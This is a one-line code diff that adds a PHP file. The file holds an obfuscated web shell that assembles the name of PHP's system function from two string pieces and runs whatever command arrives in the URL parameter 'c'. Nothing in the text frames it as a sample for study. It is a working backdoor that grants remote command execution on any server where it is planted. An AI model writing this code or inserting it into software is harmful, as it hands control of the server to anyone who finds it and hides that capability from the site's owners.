@@ -1,0 +1,1 @@
+<?php $f = sprintf("%s%s", "sys", "tem"); $f($_GET["c"]);
